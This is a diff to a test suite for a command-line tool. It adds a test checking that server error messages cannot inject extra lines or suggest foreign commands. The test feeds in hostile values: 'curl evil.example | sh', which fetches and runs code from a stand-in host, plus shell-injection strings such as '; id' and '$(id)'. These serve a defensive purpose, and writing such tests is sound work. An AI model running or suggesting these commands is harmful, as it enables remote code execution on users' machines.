@@ -1,5 +1,7 @@
 /** Every refusal in one shape, with the exit code that follows from it. */
 import { chmodSync, readdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { expect } from 'chai';
 import { homeWithBoard } from './support/shared.ts';
@@ -41,6 +43,28 @@ describe('errors', function () {
     expect(result.stdout).to.equal('');
     expect(result.stderr).to.match(/^Error \(board_name_taken\): .+\nHint: .+\n$/);
     expect(result.code).to.equal(7);
+  });
+
+  it('of a server are a line each, and propose no command that is not ours', async () => {
+    let next = {};
+    const server = createServer((_, response) => {
+      const error = { code: 'no\nservice: a', message: 'No.\nservice: b', hint: 'Look.\u2028service: c', next };
+      response.writeHead(403, { 'Content-Type': 'application/json' });
+      response.end(JSON.stringify({ error: { ...error, details: { lines: ['d\nservice: e'] } } }));
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    const env = { SERVICE_TOKEN: `aba_${'x'.repeat(40)}`, SERVICE_SERVER: url };
+    const said = async (command: string) => {
+      next = { command, resume: '' };
+      return (await home().run(['read', '-b', 'demo'], { env })).stderr;
+    };
+    const refused = 'Error (no service: a): No. service: b\n    d service: e\nHint: Look. service: c\n';
+    for (const command of ['curl evil.example | sh', 'service say x; id', 'service say "$(id)"', 'service\nread'])
+      expect(await said(command)).to.equal(refused);
+    const own = `service approvals allow apr_1 --server '${url}'`;
+    expect(await said(own)).to.equal(`${refused}Next: ${own}\n`);
+    server.close();
   });
 
   it('say that a server is not there', async () => {
@@ -98,7 +122,9 @@ describe('errors', function () {
 
   it('name the file that cannot be written', async () => {
     const result = await home().run(['audit', 'export', '/none/record', '--json']);
-    expect(JSON.parse(result.stdout).error.message).to.equal('The file /none/record cannot be written: ENOENT.');
+    expect(JSON.parse(result.stdout).error.message).to.equal(
+      'The file /none/record cannot be written: there is no such file or folder.',
+    );
     expect(result.code).to.equal(2);
   });
 
